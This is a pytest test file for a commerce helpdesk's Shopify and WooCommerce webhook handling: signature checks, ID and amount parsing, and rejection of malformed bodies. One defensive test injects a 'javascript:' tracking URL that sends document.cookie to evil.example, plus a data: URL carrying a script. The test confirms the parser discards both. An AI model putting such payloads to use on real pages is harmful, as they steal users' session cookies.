"""The platforms' real webhook samples, replayed byte for byte: signatures, then what they say."""

from __future__ import annotations

import json
from decimal import Decimal
from typing import Any

import pytest

from shopdesk.commerce import shopify, woocommerce
from shopdesk.commerce.webhooks import sign, verify
from tests.commerce_support import SHOPIFY_TEST_SECRET, WC_TEST_SECRET, commerce_sample, sample_names

SIGNED = [("shopify", n) for n in sample_names("shopify")] + \
         [("woocommerce", n) for n in sample_names("woocommerce") if n != "webhook_ping"]


def _secret(platform: str) -> str:
    return SHOPIFY_TEST_SECRET if platform == "shopify" else WC_TEST_SECRET


def _signature(meta: dict) -> str:
    return next(iter(meta["signing"]["expected_header"].values()))


@pytest.mark.parametrize(("platform", "name"), SIGNED)
def test_every_sample_verifies_with_its_recorded_signature(platform: str, name: str) -> None:
    body, meta = commerce_sample(platform, name)
    assert len(body) == meta["bytes"]
    assert verify(body, _signature(meta), [_secret(platform)])
    assert sign(_secret(platform), body) == _signature(meta)


@pytest.mark.parametrize(("platform", "name"), SIGNED)
def test_a_re_serialised_or_altered_body_fails(platform: str, name: str) -> None:
    body, meta = commerce_sample(platform, name)
    reencoded = json.dumps(json.loads(body)).encode()
    assert reencoded != body
    assert not verify(reencoded, _signature(meta), [_secret(platform)])
    assert not verify(body + b" ", _signature(meta), [_secret(platform)])
    assert not verify(body, _signature(meta), ["another-secret"])


def test_signature_header_edge_cases_never_raise() -> None:
    body, meta = commerce_sample("shopify", "orders_create")
    assert not verify(body, None, [SHOPIFY_TEST_SECRET])
    assert not verify(body, "", [SHOPIFY_TEST_SECRET])
    assert not verify(body, "not base64 at all!", [SHOPIFY_TEST_SECRET])
    assert not verify(body, _signature(meta).encode().hex(), [SHOPIFY_TEST_SECRET])   # hex is not Shopify's form
    assert not verify(body, _signature(meta), [""])


def test_the_previous_secret_still_verifies_during_a_rotation() -> None:
    body, meta = commerce_sample("shopify", "orders_create")
    assert verify(body, _signature(meta), ["the-new-secret", SHOPIFY_TEST_SECRET])


def test_shopify_order_keeps_ids_above_2_to_the_53_exact() -> None:
    body, _ = commerce_sample("shopify", "orders_create")
    order = shopify.order_from_rest(shopify.parse_body(body))
    assert order.id == "820982911946154508"
    assert order.customer_id == "115310627314723954"
    assert (order.name, order.number, order.financial_status) == ("#9999", "9999", "voided")
    assert order.cancelled and len(order.line_items) == 5
    assert order.total == "414.95" and order.currency == "USD"      # the current total, after edits
    assert order.email == "jon@example.com"


def test_shopify_multi_fulfilment_order_lists_every_tracking_number_with_url_and_carrier() -> None:
    body, meta = commerce_sample("shopify", "orders_fulfilled_multi_fulfillment")
    order = shopify.order_from_rest(shopify.parse_body(body))
    assert len(order.fulfillments) == meta["expect"]["fulfillments"]
    assert [t.number for t in order.tracking] == meta["expect"]["tracking_numbers"]
    assert {t.company for t in order.tracking} == set(meta["expect"]["companies"])
    assert all(t.url and t.number in t.url for t in order.tracking)
    assert [f.shipment_status for f in order.fulfillments] == meta["expect"]["shipment_status"]
    assert order.fulfillment_status == "fulfilled"


def test_a_tracking_link_that_is_not_a_web_address_is_never_kept() -> None:
    # a fulfilment app writes the tracking URL; the inbox makes it a link and replies send it to the customer
    body, _ = commerce_sample("shopify", "orders_fulfilled_multi_fulfillment")
    payload = shopify.parse_body(body)
    first = payload["fulfillments"][0]
    first["tracking_urls"] = ["javascript:fetch('//evil.example/'+document.cookie)", *first["tracking_urls"][1:]]
    first["tracking_url"] = first["tracking_urls"][0]
    for fulfillment in payload["fulfillments"][1:]:
        fulfillment["tracking_urls"] = [" data:text/html,<script>alert(1)</script>"] * len(fulfillment["tracking_urls"])
        fulfillment["tracking_url"] = fulfillment["tracking_urls"][0] if fulfillment["tracking_urls"] else None
    order = shopify.order_from_rest(payload)
    assert order.tracking and all(t.number for t in order.tracking)
    assert not any(t.url and not t.url.startswith(("http://", "https://")) for t in order.tracking)
    assert shopify.order_from_rest(shopify.parse_body(body)).tracking[0].url.startswith("https://")


def test_shopify_non_ascii_values_round_trip_exactly() -> None:
    body, meta = commerce_sample("shopify", "orders_create_nonascii_escaped")
    order = shopify.order_from_rest(shopify.parse_body(body))
    assert order.shipping_address is not None
    assert order.shipping_address.name == meta["expect"]["shipping_name"]
    assert order.shipping_address.city == meta["expect"]["shipping_city"]
    assert order.shipping_address.company == meta["expect"]["shipping_company"]
    assert order.line_items[0].title == meta["expect"]["line_item_0_title"]


def test_shopify_fulfilment_capture_without_tracking() -> None:
    body, _ = commerce_sample("shopify", "fulfillments_create_capture")
    payload = shopify.parse_body(body)
    fulfillment = shopify.fulfillment_from_rest(payload)
    assert fulfillment.id == "4291620110589" and fulfillment.tracking == []
    assert str(payload["order_id"]) == "4782097891581"


def test_shopify_partial_refund_totals_its_transactions() -> None:
    body, meta = commerce_sample("shopify", "refunds_create_partial")
    refund = shopify.refund_from_rest(shopify.parse_body(body))
    assert refund.amount == meta["expect"]["transactions_total"]
    assert refund.note == meta["expect"]["note"]
    assert isinstance(shopify.parse_body(body)["refund_line_items"][0]["subtotal"], Decimal)   # never a float


def test_shopify_customer_reachable_only_by_phone() -> None:
    body, _ = commerce_sample("shopify", "customers_create_phone_only")
    customer = shopify.customer_from_rest(shopify.parse_body(body))
    assert (customer.id, customer.email, customer.phone) == ("706405506930370084", None, "+16135550142")


def test_woocommerce_order_with_refunds_is_partially_refunded_and_keeps_its_status() -> None:
    body, meta = commerce_sample("woocommerce", "order_updated_partial_refund_nonascii")
    order = woocommerce.order_from_rest(json.loads(body))
    assert order.financial_status == "partially_refunded"
    assert order.platform_status == "completed" and order.fulfillment_status == "fulfilled"
    assert order.total == meta["expect"]["total"]
    assert sum(Decimal(r.amount or "0") for r in order.refunds) == -Decimal(meta["expect"]["refunds_total"])
    assert order.shipping_address is not None and order.shipping_address.name == "João Silva"
    assert order.updated_at.isoformat() == "2017-03-21T19:54:51+00:00"     # the _gmt twin, as UTC


def test_woocommerce_processing_order_and_customer() -> None:
    body, _ = commerce_sample("woocommerce", "order_created")
    order = woocommerce.order_from_rest(json.loads(body))
    assert (order.id, order.name, order.financial_status, order.fulfillment_status) == \
        ("727", "#727", "paid", "unfulfilled")
    assert order.email == "john.doe@example.com" and len(order.line_items) == 2
    body, _ = commerce_sample("woocommerce", "customer_created")
    customer = woocommerce.customer_from_rest(json.loads(body))
    assert (customer.id, customer.email) == ("25", "john.doe@example.com")


def test_woocommerce_shipment_tracking_meta_becomes_tracking() -> None:
    body = json.loads(commerce_sample("woocommerce", "order_created")[0])
    body["meta_data"] = [{"id": 1, "key": "_wc_shipment_tracking_items", "value": [
        {"tracking_provider": "DHL", "tracking_number": "JD0001", "custom_tracking_link": "https://dhl.example/JD0001"}]}]
    order = woocommerce.order_from_rest(body)
    assert [(t.number, t.company, t.url) for t in order.tracking] == [("JD0001", "DHL", "https://dhl.example/JD0001")]


@pytest.mark.parametrize("body", [
    b'{"id": 1, "created_at": "2026-01-01T00:00:00Z", "customer": [1]}',                  # a list for an object
    b'{"id": 1, "created_at": "2026-01-01T00:00:00Z", "refunds": [{"id": 2, "transactions": '
    b'[{"kind": "refund", "amount": "twelve"}]}]}',                                        # an amount not a number
    b'{"id": 1, "created_at": "2026-01-01T00:00:00Z", "line_items": ["a"]}',
    b"[" * 5_000 + b"]" * 5_000,                                                           # deeper than json reads
    b'{"id": 1, "created_at": "2026-01-01T00:00:00Z", "line_items": [{"title": "' + b"x" * 400_000 + b'"}]}',
])
def test_a_signed_order_the_receiver_cannot_read_is_a_400_not_a_crash(body: bytes) -> None:
    from shopdesk.commerce.webhooks import WebhookReceiver
    from shopdesk.errors import BadRequest
    headers = {"X-Shopify-Hmac-Sha256": sign(SHOPIFY_TEST_SECRET, body), "X-Shopify-Topic": "orders/create"}
    with pytest.raises(BadRequest):         # before anything is stored: the store is never reached
        WebhookReceiver(store=None).shopify(body, headers, [SHOPIFY_TEST_SECRET])   # type: ignore[arg-type]


class _NoStore:
    """A store no refused body may reach (an AssertionError is no 400: the test fails)."""

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"the store was reached: {name}")


_NOT_IDS = [("null", "null"), ("1e400", "1E+400"), ("12.5", "12.5"), ('"12a"', '"12a"'), ("true", "true"),
            ("0", "0"), ("-4", "-4"), (str(2**64), str(2**64)), ("{}", "{}")]


@pytest.mark.parametrize(("platform", "topic", "body"), [
    ("shopify", "orders/updated", '{"id": %s, "created_at": "2026-01-01T00:00:00Z", "name": "#1001"}'),
    ("shopify", "customers/update", '{"id": %s, "email": "a@example.com", "phone": "+31611112222"}'),
    ("shopify", "fulfillments/create", '{"id": %s, "order_id": 5, "status": "success"}'),
    ("shopify", "fulfillments/update", '{"id": 7, "order_id": %s, "status": "success"}'),
    ("shopify", "refunds/create", '{"id": 7, "order_id": %s, "created_at": "2026-01-01T00:00:00Z"}'),
    ("woocommerce", "order.updated", '{"id": %s, "number": "727", "customer": "x", "status": "processing"}'),
    ("woocommerce", "order.deleted", '{"id": %s}'),
    ("woocommerce", "customer.updated", '{"id": %s, "email": "a@example.com"}'),
])
@pytest.mark.parametrize(("given", "shown"), _NOT_IDS)
def test_a_signed_body_whose_id_is_no_platform_id_is_a_400_naming_it(platform: str, topic: str, body: str,
                                                                       given: str, shown: str) -> None:
    from shopdesk.commerce.webhooks import WebhookReceiver
    from shopdesk.errors import BadRequest
    raw = (body % given).encode()
    receiver = WebhookReceiver(store=_NoStore())      # type: ignore[arg-type]
    field = "order_id" if '"order_id": %s' in body else "id"
    with pytest.raises(BadRequest) as refused:
        if platform == "shopify":
            receiver.shopify(raw, {"X-Shopify-Hmac-Sha256": sign(SHOPIFY_TEST_SECRET, raw), "X-Shopify-Topic": topic},
                             [SHOPIFY_TEST_SECRET])
        else:
            receiver.woocommerce(raw, {"X-WC-Webhook-Signature": sign(WC_TEST_SECRET, raw),
                                       "X-WC-Webhook-Topic": topic}, WC_TEST_SECRET)
    sends = "Shopify" if platform == "shopify" else "WooCommerce"
    assert str(refused.value).startswith(f"{topic} body is not what {sends} sends: {field} ")
    assert shown in str(refused.value)


@pytest.mark.parametrize("given", ["1", "727", str(2**53 + 1), str(2**64 - 1), '"727"'])
def test_an_id_is_an_integer_up_to_64_bits_or_its_digits(given: str) -> None:
    from shopdesk.commerce.models import WebhookRecord
    assert WebhookRecord.model_validate(json.loads(f'{{"id": {given}}}', parse_float=Decimal)).id == \
        given.strip('"')
